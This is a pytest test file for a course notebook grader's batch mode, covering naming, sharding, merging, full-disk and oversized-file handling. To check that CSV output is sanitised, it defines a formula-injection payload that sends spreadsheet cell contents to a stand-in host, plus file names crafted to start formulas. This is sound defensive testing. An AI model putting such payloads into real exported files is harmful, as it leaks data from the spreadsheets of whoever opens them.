"""Batches: names that cannot collide, results never replaced silently, any input survived,
machine faults never cached as a student's score, and a class graded in shards then merged."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from attn_course.grading.results import FORMULA_STARTS
from tests.grading import corpus
from tests.grading.conftest import CLI, run_cli

pytestmark = pytest.mark.slow

INJECTION = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'
# path -> (answer, written answer); None: the student notebook as handed out
CLASS = {
    "s1/ps1/00_setup.ipynb": (corpus.CORRECT, corpus.ESSAY),
    # placed by s2 to take s1's name under the old naming (folders joined with "__")
    "s2/ps1/extra/s1__ps1__00_setup.ipynb": (None, None),
    "s3/00_setup.ipynb": (corpus.TEXTBOOK, None),
    "-A1-B1.ipynb": (corpus.CORRECT, INJECTION),
    "s5/@SUM(1+1).ipynb": (corpus.CORRECT, "+" + corpus.ESSAY),
}
NAMES = {"s1+ps1+00_setup": "3", "s2+ps1+extra+s1__ps1__00_setup": "0", "s3+00_setup": "0",
         "-A1-B1": "3", "s5+%40SUM%281%2B1%29": "3"}


def _write_class(folder: Path) -> Path:
    for rel, (answer, written) in CLASS.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(corpus.dump(corpus.filled(answer, written)))
    return folder


def _grade(outdir: Path, *args: str) -> subprocess.CompletedProcess:
    return run_cli("grade", "--source", str(corpus.SOURCE), "--out", str(outdir), "-q",
                   "--timeout", "30", *args)


def _rows(outdir: Path) -> list[dict]:
    with open(outdir / "grades.csv", newline="") as f:
        return list(csv.DictReader(f))


def _test_scores(outdir: Path) -> dict[str, str]:
    return {r["submission"].removeprefix("'"): r["score"] for r in _rows(outdir)
            if r["grade_id"] == corpus.TEST}


def _graded(outdir: Path) -> dict:
    """What a grading concluded, without when and how long it took."""
    doc = json.loads((outdir / "grades.json").read_text())
    for sub in doc["submissions"]:
        del sub["graded_at"], sub["seconds"]
    return doc


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """The class graded in one run, and again as two shards in two processes at once."""
    root = tmp_path_factory.mktemp("class")
    folder = _write_class(root / "submitted")
    single = _grade(root / "single", "--jobs", "2", str(folder))
    parts = [subprocess.Popen([*CLI, "grade", "--source", str(corpus.SOURCE), "-q",
                               "--out", str(root / f"part-{k}"), "--shard", f"{k}/2",
                               str(folder)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) for k in (1, 2)]
    outs = [p.communicate(timeout=600) for p in parts]
    for p, (_, err) in zip(parts, outs, strict=True):
        assert p.returncode == 0, err[-3000:]
    merged = _grade(root / "merged", "--merge", str(root / "part-1"), str(root / "part-2"))
    return root, single, [out for out, _ in outs], merged


def test_names_come_from_the_whole_path_so_no_file_takes_anothers(graded_class):
    root, single, _, _ = graded_class
    assert single.returncode == 0, single.stderr[-3000:]
    assert _test_scores(root / "single") == NAMES
    result = json.loads((root / "single" / "results" / "s1+ps1+00_setup.json").read_text())
    assert result["file"] == str((root / "submitted" / "s1/ps1/00_setup.ipynb").resolve())


def test_no_csv_cell_starts_a_formula(graded_class):
    root, _, _, _ = graded_class
    for path in [root / "single" / "grades.csv", *(root / "single" / "manual").glob("*.csv")]:
        with open(path, newline="") as f:
            for row in csv.reader(f):
                for value in row:
                    assert not value.startswith(FORMULA_STARTS), (path.name, value)
    written = {r["submission"]: r["answer"] for r in
               csv.DictReader(open(root / "single" / "manual" / f"{corpus.WRITTEN}.csv"))}
    assert written["'-A1-B1"] == "'" + INJECTION  # shown as text, the text itself intact


def test_scores_filled_in_a_protected_csv_reach_the_right_student(graded_class, tmp_path):
    root, _, _, _ = graded_class
    outdir = tmp_path / "out"
    shutil.copytree(root / "single", outdir)
    sheet = outdir / "manual" / f"{corpus.WRITTEN}.csv"
    rows = list(csv.DictReader(open(sheet)))
    for row in rows:
        row["score"] = "2"
    with open(tmp_path / "filled.csv", "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    proc = _grade(outdir, "--manual-scores", str(tmp_path / "filled.csv"))
    assert proc.returncode == 0, proc.stderr
    scores = {r["submission"].removeprefix("'"): r["score"] for r in _rows(outdir)
              if r["grade_id"] == corpus.WRITTEN}
    assert scores == dict.fromkeys(NAMES, "2")


def test_shards_split_the_class_and_merge_into_the_same_grades(graded_class):
    root, _, outs, merged = graded_class
    assert merged.returncode == 0, merged.stderr[-3000:]
    shares = [set(_test_scores(root / f"part-{k}")) for k in (1, 2)]
    assert not shares[0] & shares[1] and shares[0] | shares[1] == set(NAMES)
    assert all(shares), "both shares have work with five submissions (the split is fixed)"
    assert [f"Share {k} of 2: {len(shares[k - 1])} of the 5" in outs[k - 1] for k in (1, 2)] \
        == [True, True]
    assert _graded(root / "merged") == _graded(root / "single")
    again = _grade(root / "merged", "--merge", str(root / "part-1"), str(root / "part-2"))
    assert again.returncode == 0 and "0 result(s) copied" in again.stdout


def test_merging_never_replaces_another_files_result_silently(graded_class, tmp_path):
    root, _, _, _ = graded_class
    other = tmp_path / "other"
    (other / "s3").mkdir(parents=True)  # another file under the name s3+00_setup
    (other / "s3" / "00_setup.ipynb").write_bytes(b"not a notebook")
    assert _grade(tmp_path / "late", str(other)).returncode == 0
    target = tmp_path / "merged"
    shutil.copytree(root / "merged", target)
    proc = _grade(target, "--merge", str(tmp_path / "late"))
    assert proc.returncode == 1 and "not merged, s3+00_setup" in proc.stderr
    assert _test_scores(target)["s3+00_setup"] == "0"
    assert json.loads((target / "results" / "s3+00_setup.json").read_text())["status"] == "graded"
    forced = _grade(target, "--merge", str(tmp_path / "late"), "--force")
    assert forced.returncode == 0
    assert json.loads((target / "results" / "s3+00_setup.json").read_text())["status"] \
        == "not_a_notebook"


def _with_small_files(*command: str) -> subprocess.CompletedProcess:
    """`command` where no file over 200 bytes can be written (EFBIG, as a full disk ENOSPC)."""
    code = ("import resource, subprocess, sys\n"
            "resource.setrlimit(resource.RLIMIT_FSIZE, (200, resource.RLIM_INFINITY))\n"
            "sys.exit(subprocess.run(sys.argv[1:]).returncode)\n")
    return subprocess.run([sys.executable, "-c", code, *command], capture_output=True,
                          text=True, timeout=300)


def test_a_merge_onto_a_full_disk_says_so_and_can_be_repeated(graded_class, tmp_path):
    root, _, _, _ = graded_class
    parts = [str(root / "part-1"), str(root / "part-2")]
    full = _with_small_files(*CLI, "grade", "--source", str(corpus.SOURCE),
                             "--out", str(tmp_path / "all"), "--merge", *parts)
    assert full.returncode == 1 and "Traceback" not in full.stderr, full.stderr[-3000:]
    assert "not merged" in full.stderr and "reports could not be written" in full.stderr
    again = _grade(tmp_path / "all", "--merge", *parts)
    assert again.returncode == 0, again.stderr
    assert _graded(tmp_path / "all") == _graded(root / "single")


def test_bad_shard_and_merge_arguments_are_misuse(tmp_path):
    for args in (["--shard", "3/2", "x"], ["--shard", "0/4", "x"], ["--shard", "half", "x"],
                 ["--merge", str(tmp_path)], ["--merge", str(tmp_path / "out")]):
        proc = _grade(tmp_path / "out", *args)
        assert proc.returncode == 2 and proc.stderr.count("\n") == 1, (args, proc.stderr)


def test_another_file_under_a_graded_name_is_refused_unless_forced(tmp_path):
    for batch, data in (("batch1", b"{ broken"), ("late", b"not json at all")):
        (tmp_path / batch).mkdir()
        (tmp_path / batch / "s1.ipynb").write_bytes(data)
    outdir = tmp_path / "out"
    assert _grade(outdir, str(tmp_path / "batch1")).returncode == 0
    refused = _grade(outdir, str(tmp_path / "late"))
    assert refused.returncode == 1
    assert "not graded, s1:" in refused.stderr and "batch1" in refused.stderr
    stored = json.loads((outdir / "results" / "s1.json").read_text())
    assert stored["file"] == str((tmp_path / "batch1" / "s1.ipynb").resolve())
    both = _grade(outdir, str(tmp_path / "batch1"), str(tmp_path / "late"))
    assert both.returncode == 0, both.stderr  # named from their common parent: no conflict
    assert {"batch1+s1", "late+s1"} <= set(_test_scores(outdir))
    forced = _grade(outdir, str(tmp_path / "late"), "--force")
    assert forced.returncode == 0
    stored = json.loads((outdir / "results" / "s1.json").read_text())
    assert stored["file"] == str((tmp_path / "late" / "s1.ipynb").resolve())


def test_an_8_gib_sparse_file_is_refused_without_being_read(tmp_path):
    folder = tmp_path / "subs"
    folder.mkdir()
    with open(folder / "huge.ipynb", "wb") as f:
        f.truncate(8 * 2**30)  # 8 GiB that take no disk
    code = ("import resource, subprocess, sys\n"
            "proc = subprocess.run(sys.argv[1:])\n"
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
            "sys.exit(proc.returncode)\n")
    proc = subprocess.run([sys.executable, "-c", code, *CLI, "grade", "--source",
                           str(corpus.SOURCE), "--out", str(tmp_path / "out"), "-q",
                           str(folder)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    peak_kib = int(proc.stdout.strip().splitlines()[-1])
    assert peak_kib < 1024 * 1024, f"the grader's memory peaked at {peak_kib / 1024:.0f} MiB"
    rows = _rows(tmp_path / "out")
    assert {r["status"] for r in rows} == {"too_large"}
    assert "8192.0 MiB" in rows[0]["message"]


def test_a_result_the_disk_cannot_hold_is_graded_again_next_time(tmp_path):
    folder, outdir = tmp_path / "subs", tmp_path / "out"
    folder.mkdir()
    (folder / "s1.ipynb").write_bytes(b"{ broken")
    full = _with_small_files(*CLI, "grade", "--source", str(corpus.SOURCE), "--out",
                             str(outdir), "-q", str(folder))
    assert full.returncode == 1, full.stderr[-3000:]
    assert "could not be saved" in full.stderr and "Traceback" not in full.stderr
    assert not (outdir / "results" / "s1.json").exists()
    again = _grade(outdir, str(folder))
    assert again.returncode == 0 and "Graded 1, reused 0" in again.stdout
    assert {r["status"] for r in _rows(outdir)} == {"corrupt"}


def test_a_failing_setup_cell_is_the_graders_error_and_retried(tmp_path):
    source = json.loads(corpus.SOURCE.read_text())
    first = next(c for c in source["cells"] if c["cell_type"] == "code")
    assert "nbgrader" not in first["metadata"] or not first["metadata"]["nbgrader"].get(
        "solution")
    first["source"] = "import attn_course_not_installed_here\n" + "".join(first["source"])
    broken = tmp_path / "00_setup.ipynb"
    broken.write_text(json.dumps(source))
    folder, outdir = tmp_path / "subs", tmp_path / "out"
    folder.mkdir()
    (folder / "s1.ipynb").write_bytes(corpus.dump(corpus.filled(corpus.CORRECT)))
    args = ["grade", "--source", str(broken), "--out", str(outdir), "-q", "--timeout", "30",
            str(folder)]
    proc = run_cli(*args)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "the grader itself failed on 1 submission" in proc.stderr
    assert "ModuleNotFoundError" in proc.stderr
    rows = _rows(outdir)
    assert {r["status"] for r in rows} == {"grader_error"}
    assert all("before any answer" in r["message"] for r in rows)
    again = run_cli(*args)
    assert "Graded 1, reused 0" in again.stdout  # never cached as the student's score


def test_the_sandbox_folder_of_a_batch_is_not_on_outdirs_disk():
    from attn_course.grading.sandbox import scratch_dir

    if not os.path.isdir("/dev/shm") or shutil.disk_usage("/dev/shm").total < 2**30:
        pytest.skip("no /dev/shm of 1 GiB or more on this machine")
    assert scratch_dir() == Path("/dev/shm")
    outdir_disk = os.stat(Path(__file__)).st_dev
    assert os.stat(scratch_dir()).st_dev != outdir_disk
